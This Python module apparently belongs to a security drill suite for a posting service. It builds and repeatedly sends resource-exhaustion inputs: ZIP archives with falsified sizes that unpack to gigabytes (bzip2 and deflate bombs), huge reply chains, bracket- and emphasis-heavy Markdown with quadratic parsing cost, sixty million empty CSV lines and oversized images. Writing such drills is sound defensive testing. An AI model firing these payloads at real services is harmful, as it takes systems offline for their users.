"""Attacks through uploads: archives that unpack to gigabytes, texts with quadratic parsing cost."""

from __future__ import annotations

import bz2
import io
import random
import struct
import zipfile
import zlib

from PIL import Image

from drills.attacks.connection import Connection, Target, ask_json, hammer

REPLIES = 400_000
UNPACKED = 512 * 2**20  # bytes of the bzip2 archive
PARTS, PART = 60, 128 * 2**20  # files of the deflate archive, and bytes of each
PICTURES, SIDES = 12, (8_000, 5_000)
LINES = 60 * 2**20
BOUNDARY = "a-boundary-that-nothing-else-says"


async def reply_chain(target: Target) -> None:
    """A file of posts, each a reply to the previous one."""
    posts = ",".join(
        f'{{"tweet":{{"id_str":"{at}","full_text":"a","in_reply_to_status_id_str":"{at - 1}"}}}}'
        for at in range(1, REPLIES + 1)
    )
    await _import(target, 4, "tweets.js", f"window.YTD.tweets.part0 = [{posts}]".encode())


async def bzip2_bomb(target: Target) -> None:
    """An archive whose only file declares a small size and unpacks to half a gigabyte."""
    packer = bz2.BZ2Compressor()
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(UNPACKED // 2**20))
    packed += packer.flush()
    member = ("data/tweets.js", zipfile.ZIP_BZIP2, packed, 150 * len(packed))
    await _import(target, 4, "archive.zip", _zip([member]))


async def deflate_bomb(target: Target) -> None:
    """An archive of many files, each of the largest allowed size."""
    chance = random.Random(3)  # noqa: S311 - the same bytes in every run
    block = chance.randbytes(4_000).hex().encode() + b" " * 1_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    text = b'window.YTD.tweets.part0 = [{"tweet":{"id_str":"1","full_text":"a"}}]'
    packed, size = packer.compress(text), len(text)
    while size + len(block) < PART:
        packed += packer.compress(block)
        size += len(block)
    packed += packer.flush()
    members = [
        (f"data/tweets-part{at}.js", zipfile.ZIP_DEFLATED, packed, size) for at in range(1, PARTS)
    ]
    await _import(target, 4, "archive.zip", _zip(members))


async def brackets(target: Target) -> None:
    """Markdown that consists of opening brackets."""
    text = {"client": target.facts["client"], "source": "markdown", "text": "[" * 999_000}
    await hammer(target, 16, lambda connection, _: _posted(target, connection, "threads", text))


async def hashtags(target: Target) -> None:
    """Posts that consist of hashtags, and of characters that may open or close emphasis."""
    words = ("#a " * 300_000, "*a _b" * 190_000, "<" * 999_000, "@a." * 300_000)

    async def ask(connection: Connection, turn: int) -> int:
        text = {"client": target.facts["client"], "text": words[turn % len(words)]}
        return await _posted(target, connection, "threads", text)

    await hammer(target, 16, ask)


async def newlines(target: Target) -> None:
    """A CSV table of sixty million empty lines."""
    await _import(target, 4, "table.csv", b"text,author\n" + b"\n" * LINES)


async def large_pictures(target: Target) -> None:
    """A dozen valid pictures of 40 megapixels, completed at once."""
    file = io.BytesIO()
    Image.linear_gradient("L").resize(SIDES).convert("RGB").save(file, "JPEG", quality=60)
    data = file.getvalue()

    async def ask(connection: Connection, turn: int) -> int:
        said = {
            "kind": "image",
            "filename": f"{turn}.jpg",
            "content_type": "image/jpeg",
            "bytes": len(data),
        }
        status, asset = await ask_json(target, connection, "POST", "assets", said)
        if status != 201:
            return status
        upload = asset["upload"]
        store = Connection(upload["url"], "127.66.0.1")
        path = "/" + upload["url"].split("/", 3)[3]
        await store.ask(upload["method"], path, data, **upload["headers"])
        store.close()
        return await _posted(target, connection, f"assets/{asset['id']}/complete")

    await hammer(target, PICTURES, ask)


async def _posted(
    target: Target, connection: Connection, path: str, document: object = None
) -> int:
    status, _ = await ask_json(target, connection, "POST", path, document)
    return status


async def _import(target: Target, times: int, name: str, data: bytes) -> None:
    """Send a file to the import, over and over."""
    said = "".join(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n{value}\r\n'
        for field, value in (("client", target.facts["client"]), ("dry_run", "true"))
    )
    said += (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n\r\n'
    )
    body = said.encode() + data + f"\r\n--{BOUNDARY}--\r\n".encode()
    kind = f"multipart/form-data; boundary={BOUNDARY}"

    async def ask(connection: Connection, _: int) -> int:
        path = f"{target.base}/threads"
        return (await connection.ask("POST", path, body, Content_Type=kind, **target.entitled))[0]

    await hammer(target, times, ask)


def _zip(members: list[tuple[str, int, bytes, int]]) -> bytes:
    """A ZIP archive of members: name, method, packed bytes and declared size."""
    entries, directory, at = [], [], 0
    for name, method, packed, size in members:
        said = struct.pack("<4HLLL2H", 20, 0, method, 0, 0, len(packed), size, len(name), 0)
        local = b"PK\3\4" + said[:8] + b"\0\0" + said[8:] + name.encode() + packed
        directory.append(
            b"PK\1\2" + struct.pack("<H", 20) + said[:8] + b"\0\0" + said[8:]
            + struct.pack("<3H2L", 0, 0, 0, 0, at) + name.encode()
        )  # fmt: skip
        entries.append(local)
        at += len(local)
    listed = b"".join(directory)
    count = len(members)
    return (
        b"".join(entries)
        + listed
        + b"PK\5\6"
        + struct.pack("<4H2LH", 0, 0, count, count, len(listed), at, 0)
    )
